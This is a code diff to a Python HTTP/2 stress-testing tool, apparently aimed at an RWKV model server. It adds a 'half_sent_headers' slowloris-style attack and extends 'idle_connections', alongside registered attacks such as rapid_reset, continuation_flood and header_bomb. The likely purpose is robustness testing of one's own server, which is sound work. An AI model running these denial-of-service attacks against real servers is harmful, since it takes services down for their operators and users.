@@ -22,6 +22,7 @@ from rwkv.v1 import rwkv_pb2 as pb
 PAUSE_SECONDS = 0.01
 BATCH = 100
 MESSAGE_BYTES = 15 << 20
+NUM_CONNECTIONS = 300
 
 
 class Attacker:
@@ -184,16 +185,26 @@ def unread_answers(attacker):
     attacker.hold(connections)
 
 
-def idle_connections(attacker):
+def idle_connections(attacker, start=b""):
     """As many connections as the server accepts, which do nothing."""
     connections = []
-    while len(connections) < 300 and not attacker.over():
+    while len(connections) < NUM_CONNECTIONS and not attacker.over():
         try:
-            connections.append(attacker.connect())
+            # An acknowledgment must not interrupt the start of headers.
+            connection = attacker.connect(acknowledges=not start)
+            connections.append(connection)
+            connection.send(start)
         except OSError:
             attacker.counts["refused"] += 1
             time.sleep(PAUSE_SECONDS)
     attacker.hold(connections)
+
+
+def half_sent_headers(attacker):
+    """As many connections as the server accepts, each of which has sent headers
+    without an end."""
+    idle_connections(attacker, h2.frame(h2.HEADERS, 0, 1,
+                                        h2.call_fields("Generate")))
 
 
 def control_frames(attacker):
@@ -230,7 +241,7 @@ def calls(attacker):
 ATTACKS = {attack.__name__: attack for attack in (
     rapid_reset, continuation_flood, endless_integers, header_bomb,
     half_sent_messages, streams_without_messages, unread_answers,
-    idle_connections, control_frames, calls)}
+    idle_connections, half_sent_headers, control_frames, calls)}
 
 
 def main(arguments):
